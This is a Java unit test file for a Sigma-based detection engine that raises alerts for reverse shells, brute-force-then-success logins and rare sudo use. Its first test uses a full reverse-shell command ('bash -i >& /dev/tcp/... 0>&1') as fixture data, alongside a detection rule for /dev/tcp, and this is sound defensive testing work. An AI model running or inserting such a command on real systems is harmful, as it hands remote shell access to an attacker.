package io.vigil.detect.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.model.Alert;
import io.vigil.model.Severity;
import io.vigil.model.event.DeviceEvent;
import io.vigil.model.event.EventHeader;
import io.vigil.model.event.Login;
import io.vigil.model.event.ProcessCreate;
import io.vigil.model.event.SecurityEvent;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Device events in, alerts out. */
class SigmaDetectionTest {
  private static final Instant T0 = Instant.parse("2026-03-01T10:00:00Z");

  private static final String RULES = """
      title: Reverse shell over /dev/tcp
      id: 3187c2c1-e2be-40c1-8704-c6b5ce6cfb78
      description: A shell redirected its streams to a TCP socket
      logsource: {product: linux, category: process_creation}
      detection:
        sel:
          CommandLine|contains: /dev/tcp/
        condition: sel
      level: critical
      tags: [attack.execution, attack.command_and_control, attack.t1059.004, attack.g0032, car.2013-05-002]
      vigil.alertName: IoT_ReverseShell
      vigil.remediation: Kill the shell and block the address.
      ---
      title: Failed login
      id: failed
      name: failed_login
      logsource: {product: vigil, category: login}
      detection: {sel: {Result: Fail}, condition: sel}
      ---
      title: Successful login
      id: success
      name: successful_login
      logsource: {product: vigil, category: login}
      detection: {sel: {Result: Success}, condition: sel}
      ---
      title: Many failed logins
      id: many-failed
      name: many_failed
      correlation: {type: event_count, rules: [failed_login], group-by: [UserName], timespan: 5m, condition: {gte: 3}}
      ---
      title: Brute force followed by a successful login
      id: brute-success
      correlation: {type: temporal_ordered, rules: [many_failed, successful_login], group-by: [UserName], timespan: 10m}
      level: high
      tags: [attack.credential_access, attack.t1110]
      vigil.alertName: IoT_BruteForceSuccess
      ---
      title: Privilege use
      id: sudo
      logsource: {product: linux, category: process_creation}
      detection: {sel: {Image|endswith: /sudo}, condition: sel}
      ---
      title: Rare privilege use
      id: rare-sudo
      correlation: {type: event_count, rules: [sudo], timespan: 1h, condition: {lt: 2}}
      generate: true
      level: informational
      """;

  private final List<Instant> timers = new ArrayList<>();
  private final SigmaDetection detection = new SigmaDetection(SigmaEngine.builder(InlineRules.of(RULES))
      .allowedLateness(Duration.ZERO).timers((device, time) -> timers.add(time)).build());

  private static DeviceEvent event(long seconds, SecurityEvent e) {
    return new DeviceEvent("gw-1", "default", "agent-1", "1.0", T0.plusSeconds(seconds + 2), e);
  }

  private static EventHeader header(long seconds) {
    return EventHeader.at(T0.plusSeconds(seconds), ZoneOffset.UTC);
  }

  private static ProcessCreate.Process proc(String cmd) {
    return new ProcessCreate.Process("/bin/bash", 4242, 1, "0", "root", cmd, Map.of("ParentExecutable", "/usr/sbin/cron"));
  }

  private static Login.Attempt login(String user, Login.Result result) {
    return new Login.Attempt(7, null, user, "sshd", "/usr/sbin/sshd", "203.0.113.9", "50000", "22", result, Map.of());
  }

  private List<Alert> run(DeviceEvent e) {
    List<Alert> out = new ArrayList<>();
    detection.evaluate(e, out::add);
    return out;
  }

  @Test
  void aMatchingProcessRaisesAnAlertFromTheRulesFields() {
    DeviceEvent e = event(0, new ProcessCreate(header(0), List.of(proc("sleep 1"), proc("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"))));
    List<Alert> alerts = run(e);
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("IoT_ReverseShell");
      assertThat(a.displayName()).isEqualTo("Reverse shell over /dev/tcp");
      assertThat(a.severity()).as("critical is High").isEqualTo(Severity.HIGH);
      assertThat(a.description()).startsWith("A shell redirected its streams to a TCP socket. Event: Image=/bin/bash, CommandLine=bash -i >& /dev/tcp/");
      assertThat(a.remediationSteps()).isEqualTo("Kill the shell and block the address.");
      assertThat(a.deviceId()).isEqualTo("gw-1");
      assertThat(a.entities()).containsEntry("Image", "/bin/bash").containsEntry("ProcessId", "4242")
          .containsEntry("ParentImage", "/usr/sbin/cron").doesNotContainKey("DeviceId")
          .as("typed entities").containsEntry("Device", "gw-1").containsEntry("Process", "/bin/bash");
      assertThat(a.extendedProperties()).containsEntry("EventId", e.event().header().id()).containsEntry("RuleLevel", "critical")
          .containsEntry("RuleSource", "test.yml:1");
      assertThat(a.ruleId()).isEqualTo("3187c2c1-e2be-40c1-8704-c6b5ce6cfb78");
      assertThat(a.tactics()).containsExactly("Execution", "CommandAndControl");
      assertThat(a.techniques()).containsExactly("T1059.004");
      assertThat(a.firstSeen()).isEqualTo(T0);
      assertThat(a.lastSeen()).isEqualTo(T0);
      assertThat(a.timeGenerated()).isEqualTo(T0.plusSeconds(2));
    });
    assertThat(run(e).get(0).systemAlertId()).as("stable per occurrence").isEqualTo(alerts.get(0).systemAlertId());
  }

  @Test
  void bruteForceThenSuccessRaisesOnlyTheOuterCorrelation() {
    List<Alert> alerts = new ArrayList<>();
    List<String> ids = new ArrayList<>();
    for (int i = 0; i < 3; i++) {
      DeviceEvent failed = event(i * 10, new Login(header(i * 10), List.of(login("admin", Login.Result.FAIL))));
      ids.add(failed.event().header().id());
      alerts.addAll(run(failed));
    }
    assertThat(alerts).as("failures and the inner count are not alerts on their own").isEmpty();
    DeviceEvent success = event(100, new Login(header(100), List.of(login("admin", Login.Result.SUCCESS))));
    ids.add(success.event().header().id());
    alerts.addAll(run(success));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("IoT_BruteForceSuccess");
      assertThat(a.severity()).isEqualTo(Severity.HIGH);
      assertThat(a.entities()).containsOnly(Map.entry("Device", "gw-1"), Map.entry("UserName", "admin"), Map.entry("User", "admin"));
      assertThat(a.extendedProperties()).containsEntry("CorrelationType", "temporal_ordered").containsEntry("Events", "2")
          .as("the failures of the inner burst, then the success").containsEntry("EvidenceEventIds", String.join(",", ids));
      assertThat(a.description()).isEqualTo("Brute force followed by a successful login. 2 matching events in 80 s for UserName=admin.");
      assertThat(a.firstSeen()).isEqualTo(T0.plusSeconds(20));
      assertThat(a.lastSeen()).isEqualTo(T0.plusSeconds(100));
      assertThat(a.techniques()).containsExactly("T1110");
      assertThat(a.tactics()).containsExactly("CredentialAccess");
    });
  }

  @Test
  void aTimerDecidesWindowsOfASilentDevice() {
    ProcessCreate.Process sudo = new ProcessCreate.Process("/usr/bin/sudo", 9, 1, "1000", "ops", "sudo id", Map.of());
    List<Alert> alerts = run(event(0, new ProcessCreate(header(0), List.of(sudo))));
    assertThat(alerts).as("rare-sudo generates sudo, so sudo alerts on its own").singleElement()
        .satisfies(a -> assertThat(a.alertName()).as("no alert name nor name: the id").isEqualTo("sudo"));
    assertThat(timers).contains(T0.plusMillis(3_600_001));
    List<Alert> fromTimer = new ArrayList<>();
    detection.onTimer("gw-1", T0.plusMillis(3_600_001), fromTimer::add);
    assertThat(fromTimer).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("rare-sudo");
      assertThat(a.severity()).isEqualTo(Severity.INFORMATIONAL);
      assertThat(a.timeGenerated()).isEqualTo(T0.plusMillis(3_600_001));
      assertThat(a.entities()).containsExactly(Map.entry("Device", "gw-1"));
    });
  }

  @Test
  void typedEntitiesComeFromTheTaxonomyFields() {
    assertThat(SigmaAlerts.typed("gw-1", Map.of("Image", "/usr/bin/curl", "Initiated", "true", "DestinationIp", "203.0.113.5",
        "DestinationPort", "443", "SourceIp", "10.0.0.2", "User", "pi")))
        .containsEntry("Device", "gw-1").containsEntry("Process", "/usr/bin/curl").containsEntry("User", "pi")
        .containsEntry("RemoteIp", "203.0.113.5").containsEntry("RemotePort", "443").containsEntry("SourceIp", "10.0.0.2");
    assertThat(SigmaAlerts.typed("gw-1", Map.of("Initiated", "false", "DestinationIp", "10.0.0.2", "SourceIp", "198.51.100.9")))
        .as("inbound: the source is remote").containsEntry("RemoteIp", "198.51.100.9");
    assertThat(SigmaAlerts.typed("gw-1", Map.of("RemoteAddress", "198.51.100.9", "UserName", "root", "UserId", "0", "Executable", "/usr/sbin/sshd")))
        .containsEntry("RemoteIp", "198.51.100.9").containsEntry("User", "root").containsEntry("Process", "/usr/sbin/sshd");
    assertThat(SigmaAlerts.typed("gw-1", Map.of("TargetFilename", "/etc/shadow", "Path", "/etc/shadow")))
        .containsEntry("File", "/etc/shadow").doesNotContainKey("Process");
  }

  @Test
  void levelsMapOntoSeverities() {
    assertThat(SigmaAlerts.severity("critical")).isEqualTo(Severity.HIGH);
    assertThat(SigmaAlerts.severity("high")).isEqualTo(Severity.HIGH);
    assertThat(SigmaAlerts.severity("medium")).isEqualTo(Severity.MEDIUM);
    assertThat(SigmaAlerts.severity(null)).isEqualTo(Severity.MEDIUM);
    assertThat(SigmaAlerts.severity("low")).isEqualTo(Severity.LOW);
    assertThat(SigmaAlerts.severity("informational")).isEqualTo(Severity.INFORMATIONAL);
  }
}
